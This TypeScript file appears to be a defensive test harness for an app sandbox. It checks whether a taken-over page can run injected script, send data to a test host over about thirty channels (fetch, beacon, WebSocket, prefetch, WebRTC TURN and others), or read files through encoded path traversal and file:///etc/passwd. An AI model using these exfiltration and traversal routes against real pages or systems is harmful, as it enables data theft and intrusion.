/** What a page that was taken over may try. Each of these runs inside the page, and uses nothing outside itself. */

export interface Targets {
  /** Of a server that answers everything. */
  readonly host: string;
  /** Where packets are received. */
  readonly packetHost: string;
}

/** By name: `refused`, or what was reached instead. */
export type Outcomes = Readonly<Record<string, string>>;

/** Code that is no file of the program. */
export async function runCode(): Promise<Outcomes> {
  const outcomes: Record<string, string> = {};
  const ran = new Set<string>();
  Reflect.set(globalThis, 'ran', (way: string) => ran.add(way));
  const add = (tag: string, parts: object): void => {
    const element = Object.assign(document.createElement(tag), parts);
    document.body.append(element);
    if (element instanceof HTMLElement && tag === 'a') element.click();
  };
  const code = (way: string): string => `top.ran(${JSON.stringify(way)})`;
  const inFrame = (way: string): string => `<script>${code(way)}</script>`;
  const blob = (text: string, type: string): string => URL.createObjectURL(new Blob([text], { type }));
  const ways: Record<string, (way: string) => unknown> = {
    'inline script': (way) => add('script', { textContent: code(way) }),
    'inline handler': (way) => add('div', { innerHTML: `<img src="x" onerror='${code(way)}'>` }),
    'javascript: link': (way) => add('a', { href: `javascript:${code(way)}` }),
    'data: script': (way) => add('script', { src: `data:text/javascript,${code(way)}` }),
    'blob: script': (way) => add('script', { src: blob(code(way), 'text/javascript') }),
    eval: (way) => (Reflect.get(globalThis, 'eval') as (text: string) => unknown)(code(way)),
    Function: (way) => (Reflect.construct(Function, [code(way)]) as () => void)(),
    timer: (way) => (setTimeout as (text: unknown, ms: number) => unknown)(code(way), 0),
    'dynamic import': (way) => import(/* @vite-ignore */ `data:text/javascript,${code(way)}`),
    'srcdoc frame': (way) => add('iframe', { srcdoc: inFrame(way) }),
    'data: frame': (way) => add('iframe', { src: `data:text/html,${inFrame(way)}` }),
    'blob: frame': (way) => add('iframe', { src: blob(inFrame(way), 'text/html') }),
    'javascript: frame': (way) => add('iframe', { src: `javascript:${code(way)}` }),
    'blob: worker': (way) =>
      new Promise((done) => {
        const worker = new Worker(blob('postMessage(1)', 'text/javascript'));
        worker.onmessage = () => done(ran.add(way));
        worker.onerror = done;
      }),
    'shared worker': () => void new SharedWorker(blob('', 'text/javascript')),
    'service worker': (way) => navigator.serviceWorker.register('./sw.js').then(() => ran.add(way)),
    WebAssembly: (way) =>
      WebAssembly.compile(Uint8Array.of(0, 97, 115, 109, 1, 0, 0, 0)).then(() => ran.add(way)),
  };
  // What is evaluated from outside may itself evaluate text, until it waits for the first time.
  await new Promise((done) => setTimeout(done, 0));
  for (const [way, attempt] of Object.entries(ways))
    await Promise.resolve(way)
      .then(attempt)
      .catch(() => undefined);
  await new Promise((done) => setTimeout(done, 500));
  for (const way of Object.keys(ways)) outcomes[way] = ran.has(way) ? 'ran' : 'refused';
  return outcomes;
}

/** All ways to send data out of the page. The server must not receive any. */
export async function reachOut({ host, packetHost }: Targets): Promise<void> {
  const to = (way: string): string => `http://${host}/${way}`;
  const add = (tag: string, parts: object): HTMLElement => {
    const element = Object.assign(document.createElement(tag), parts);
    document.body.append(element);
    return element;
  };
  const link = (rel: string, parts = {}): HTMLElement => add('link', { rel, href: to(rel), ...parts });
  const call = async (servers: readonly RTCIceServer[]): Promise<void> => {
    const caller = new RTCPeerConnection({ iceServers: [...servers] });
    const callee = new RTCPeerConnection();
    caller.createDataChannel('way out');
    const [address, port] = packetHost.split(':');
    await caller.setLocalDescription(await caller.createOffer());
    await callee.setRemoteDescription(caller.localDescription ?? { type: 'offer' });
    await callee.setLocalDescription(await callee.createAnswer());
    await caller.setRemoteDescription(callee.localDescription ?? { type: 'answer' });
    const candidate = `candidate:1 1 udp 2122260223 ${address} ${port} typ host generation 0`;
    await caller.addIceCandidate({ candidate, sdpMid: '0', sdpMLineIndex: 0 });
    await new Promise((done) => setTimeout(done, 1_000));
  };
  const login = { username: 'any', credential: 'any' };
  const ways: Record<string, () => unknown> = {
    fetch: () => fetch(to('fetch'), { mode: 'no-cors', method: 'POST', body: 'secret' }),
    XMLHttpRequest: () => {
      const request = new XMLHttpRequest();
      request.open('GET', to('xhr'));
      request.send();
    },
    beacon: () => navigator.sendBeacon(to('beacon'), 'secret'),
    socket: () => void new WebSocket(`ws://${host}/socket`),
    'event source': () => void new EventSource(to('events')),
    WebTransport: () => new WebTransport(`https://${host}/transport`).ready,
    image: () => add('img', { src: to('image') }),
    'CSS image': () => (document.body.style.backgroundImage = `url(${to('css')})`),
    script: () => add('script', { src: to('script') }),
    style: () => link('stylesheet'),
    font: () => new FontFace('out', `url(${to('font')})`).load(),
    audio: () => add('audio', { src: to('audio'), preload: 'auto' }),
    video: () => add('video', { src: to('video'), poster: to('poster'), preload: 'auto' }),
    object: () => add('object', { data: to('object') }),
    embed: () => add('embed', { src: to('embed') }),
    frame: () => add('iframe', { src: to('frame') }),
    'frame in a frame': () => add('iframe', { srcdoc: `<img src="${to('srcdoc')}">` }),
    manifest: () => link('manifest'),
    'name of a server': () => link('dns-prefetch', { href: 'http://secret.invalid/' }),
    preconnect: () => link('preconnect'),
    prefetch: () => link('prefetch'),
    preload: () => link('preload', { as: 'image' }),
    'module preload': () => link('modulepreload'),
    speculation: () => {
      const rules = { prefetch: [{ source: 'list', urls: [to('speculation')] }] };
      add('script', { type: 'speculationrules', textContent: JSON.stringify(rules) });
    },
    ping: () => add('a', { href: '#', ping: to('ping') }).click(),
    form: () => (add('form', { action: to('form'), method: 'post' }) as HTMLFormElement).submit(),
    STUN: () => call([{ urls: `stun:${packetHost}` }]),
    'TURN over TCP': () => call([{ urls: `turn:${host}?transport=tcp`, ...login }]),
    'TURN over UDP': () => call([{ urls: `turn:${packetHost}?transport=udp`, ...login }]),
  };
  const attempts = Object.values(ways).map((attempt) => Promise.resolve().then(attempt));
  await Promise.race([Promise.allSettled(attempts), new Promise((done) => setTimeout(done, 5_000))]);
}

/** Files of the program that the page is not meant to have, and others of this computer. */
export async function readFiles(): Promise<Outcomes> {
  const outcomes: Record<string, string> = {};
  const image = (source: string): Promise<string> =>
    new Promise((done) => {
      const element = new Image();
      element.onload = () => done('loaded');
      element.onerror = () => done('refused');
      element.src = source;
    });
  for (const path of [
    '../assets/app.png',
    '..%2fassets/app.png',
    '%2e%2e%2fassets%2fapp.png',
    '..%5cassets%5capp.png',
  ])
    outcomes[path] = await image(`app://monitor/${path}`);
  for (const source of [
    'app://assets/app.png',
    'app://player/..%2fassets/app.png',
    'file:///usr/share/pixmaps/debian-logo.png',
  ])
    outcomes[source] = await image(source);
  for (const source of ['file:///etc/passwd', 'app://monitor/index.html', 'app://player/index.html'])
    outcomes[`fetch ${source}`] = await fetch(source).then(
      () => 'fetched',
      () => 'refused',
    );
  return outcomes;
}
